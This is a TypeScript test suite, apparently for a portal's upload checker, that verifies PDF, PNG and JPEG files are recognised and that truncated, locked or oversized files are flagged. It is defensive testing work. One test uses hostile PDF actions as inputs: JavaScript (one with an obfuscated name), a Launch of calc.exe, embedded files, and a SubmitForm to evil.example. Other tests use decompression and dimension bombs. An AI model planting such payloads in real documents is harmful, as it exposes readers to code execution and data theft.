import assert from 'node:assert/strict';
import { buffer } from 'node:stream/consumers';
import { describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import PDFDocument from 'pdfkit';
import { jpegScan, pdfScan, pngScan } from '#test/portal/scans.ts';
import { effortOf } from '#test/world/effort.ts';
import { readFile } from './formats.ts';

const whole = (type: string) => ({ kind: 'whole', type });
const faulty = (fault: string) => ({ kind: 'faulty', fault });

/** What an office program writes. */
const written = async (options: PDFKit.PDFDocumentOptions): Promise<Buffer> => {
  const document = new PDFDocument(options);
  document.text('signed').end();
  return buffer(document);
};

describe('a file', () => {
  it('is told by its content', async () => {
    assert.deepEqual(readFile(pdfScan()), whole('application/pdf'));
    assert.deepEqual(readFile(await written({ pdfVersion: '1.7' })), whole('application/pdf'));
    assert.deepEqual(readFile(pngScan()), whole('image/png'));
    assert.deepEqual(readFile(jpegScan()), whole('image/jpeg'));
    for (const other of ['%PDF', 'GIF89a', '<svg/>', 'PK\x03\x04', '<html>'])
      assert.deepEqual(readFile(Buffer.from(other)), faulty('kind'), other);
    assert.deepEqual(readFile(Buffer.alloc(0)), faulty('empty'));
  });

  it('is told to be a picture of a telephone that most can’t open', () => {
    for (const brand of ['heic', 'heix', 'hevc', 'mif1', 'msf1'])
      assert.deepEqual(readFile(Buffer.from(`\0\0\0\x18ftyp${brand}\0\0\0\0`)), faulty('heic'), brand);
    assert.deepEqual(readFile(Buffer.from('\0\0\0\x18ftypisom\0\0\0\0')), faulty('kind'));
  });

  it('is a PDF as readers open it, though something stands before', async () => {
    for (const before of ['\ufeff', '\r\n', ' ', '\0', 'x'.repeat(1000)])
      for (const file of [pdfScan(), await written({ pdfVersion: '1.7' })])
        assert.deepEqual(readFile(Buffer.concat([Buffer.from(before), file])), whole('application/pdf'));
    assert.deepEqual(readFile(Buffer.concat([Buffer.alloc(1025), pdfScan()])), faulty('kind'));
    assert.deepEqual(readFile(Buffer.from('\r\n%PDF-1.7')), faulty('broken'));
    const locked = await written({ ownerPassword: 'x', userPassword: 'y' });
    assert.deepEqual(readFile(Buffer.concat([Buffer.from('\ufeff'), locked])), faulty('locked'));
  });

  it('is a PDF as readers open it, though it is filled up behind its end', async () => {
    for (const behind of ['\0'.repeat(5000), '\r\n'.repeat(2000), ' \n'.repeat(600), 'x'.repeat(900)])
      for (const file of [pdfScan(), await written({ pdfVersion: '1.7' })])
        assert.deepEqual(readFile(Buffer.concat([file, Buffer.from(behind)])), whole('application/pdf'));
    assert.deepEqual(readFile(Buffer.concat([pdfScan(), Buffer.alloc(1100, 'x')])), faulty('broken'));
    assert.deepEqual(
      readFile(Buffer.concat([pdfScan().subarray(0, 40), Buffer.alloc(9000)])),
      faulty('broken'),
    );
  });

  it('that was cut anywhere is not whole', () => {
    for (const file of [pdfScan(), pngScan(), jpegScan()])
      fc.assert(
        // Two bytes are the least that no end can miss: a PDF's last one is the end of a line.
        fc.property(fc.integer({ min: 9, max: file.length - 2 }), (length) =>
          assert.deepEqual(readFile(file.subarray(0, length)), faulty('broken')),
        ),
      );
  });

  it('that only begins, or ends, as it should is not whole', () => {
    for (const text of [
      '%PDF-1.7\nx',
      '%PDF-1.7\n%%EOF',
      '%PDF-1.7\nstartxref\n0\n%%EOF',
      '%PDF-1.7\nstartxref\n99999\n%%EOF',
    ])
      assert.deepEqual(readFile(Buffer.from(text)), faulty('broken'), text);
    const png = pngScan();
    assert.deepEqual(readFile(Buffer.concat([png.subarray(0, 33), png.subarray(-12)])), faulty('broken'));
    assert.deepEqual(readFile(Buffer.from([0xff, 0xd8, 0xff, 0xd9])), faulty('broken'));
  });

  it('is read without a long halt, whatever it consists of', async () => {
    const header = pngScan().subarray(0, 33);
    const chunks = Buffer.alloc(9_600_000);
    for (let at = 0; at < chunks.length; at += 12) chunks.writeUInt32BE(0x61616161 + at, at + 4);
    const effort = await effortOf(() =>
      assert.deepEqual(readFile(Buffer.concat([header, chunks])), faulty('broken')),
    );
    assert.ok(effort < 1, `${effort} s`);
  });

  it('never makes the check fail, whatever is in it', () => {
    const begins = fc.constantFrom(
      pdfScan().subarray(0, 9),
      pngScan().subarray(0, 8),
      jpegScan().subarray(0, 2),
    );
    fc.assert(
      fc.property(begins, fc.uint8Array({ maxLength: 200 }), (start, rest) => {
        assert.notEqual(readFile(Buffer.concat([start, rest])).kind, 'whole');
      }),
    );
  });

  it('may be followed by what readers pass over', () => {
    assert.deepEqual(readFile(pdfScan('scanned in Ottawa')), whole('application/pdf'));
    assert.deepEqual(readFile(Buffer.concat([jpegScan(), Buffer.from('maker’s note')])), whole('image/jpeg'));
  });

  it('that asks for a password is told', async () => {
    assert.deepEqual(readFile(await written({ userPassword: 'secret' })), faulty('locked'));
  });

  it('may keep its cross-references in a stream', () => {
    const body = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n';
    const stream = (more: string) =>
      `${body}2 0 obj\n<< /Type /XRef /Root 1 0 R ${more}/Length 4 >>\nstream\n\0\0\0\0\nendstream\nendobj\nstartxref\n${body.length}\n%%EOF\n`;
    assert.deepEqual(readFile(Buffer.from(stream(''))), whole('application/pdf'));
    assert.deepEqual(readFile(Buffer.from(stream('/Encrypt 3 0 R '))), faulty('locked'));
  });

  /** A whole PDF with one more object. */
  const pdfWith = (object: Buffer | string): Buffer => {
    const head = Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
      Buffer.from(object),
      Buffer.from('\n'),
    ]);
    const end = `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R >>\nstartxref\n${head.length}\n%%EOF\n`;
    return Buffer.concat([head, Buffer.from(end)]);
  };
  const packed = (objects: string, filter = '/FlateDecode'): Buffer =>
    Buffer.concat([
      Buffer.from(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length 9 >>\nstream\n`),
      deflateSync(objects),
      Buffer.from('\nendstream\nendobj'),
    ]);

  it('that acts when it is opened, or brings another file, is told, however it is written', () => {
    assert.deepEqual(readFile(pdfWith('2 0 obj\n<< /Type /Page >>\nendobj')), whole('application/pdf'));
    assert.deepEqual(readFile(pdfWith(packed('2 0 << /Type /Page >>'))), whole('application/pdf'));
    for (const action of [
      '/S /JavaScript /JS (app.alert(1))',
      '/S/#4aava#53cript/JS(x)',
      '/S /Launch /F (calc.exe)',
      '/Names << /EmbeddedFiles 3 0 R >>',
      '/Type /EmbeddedFile',
      '/S /SubmitForm /F (https://evil.example)',
    ]) {
      assert.deepEqual(readFile(pdfWith(`2 0 obj\n<< ${action} >>\nendobj`)), faulty('active'), action);
      assert.deepEqual(readFile(pdfWith(packed(`2 0 << ${action} >>`))), faulty('active'), action);
    }
    for (const filter of ['/LZWDecode', '[/ASCIIHexDecode /FlateDecode]'])
      assert.deepEqual(readFile(pdfWith(packed('2 0 << >>', filter))), faulty('active'), filter);
    assert.deepEqual(
      readFile(pdfWith(packed(' '.repeat(40_000_000)))),
      faulty('active'),
      'too much to look at',
    );
  });

  it('is not looked past where its packed objects are written as few programs do', () => {
    const object = packed('2 0 << /S /JavaScript >>').toString('latin1');
    const written = {
      'a long dictionary': object.replace('/N 1', `/N 1${' '.repeat(3000)}`),
      'a word in it': object.replace('/N 1', '/X (1 0 obj) /N 1'),
      'a line that ends in a return': object.replace('stream\n', 'stream\r'),
      'no type': object.replace('/Type /ObjStm', ''),
    };
    for (const [how, text] of Object.entries(written))
      assert.deepEqual(readFile(pdfWith(Buffer.from(text, 'latin1'))), faulty('active'), how);
    const outline = '2 0 obj\n<< /First 4 0 R /Last 51 0 R >>\nendobj';
    assert.deepEqual(readFile(pdfWith(outline)), whole('application/pdf'));
  });

  it('that would be larger than any paper when it is drawn is told', () => {
    const png = pngScan();
    png.writeUInt32BE(2 ** 31 - 1, 16);
    png.writeUInt32BE(2 ** 31 - 1, 20);
    assert.deepEqual(readFile(png), faulty('huge'));
    const jpeg = jpegScan();
    jpeg.writeUInt16BE(65535, 15);
    jpeg.writeUInt16BE(65535, 17);
    assert.deepEqual(readFile(jpeg), faulty('huge'));
  });
});
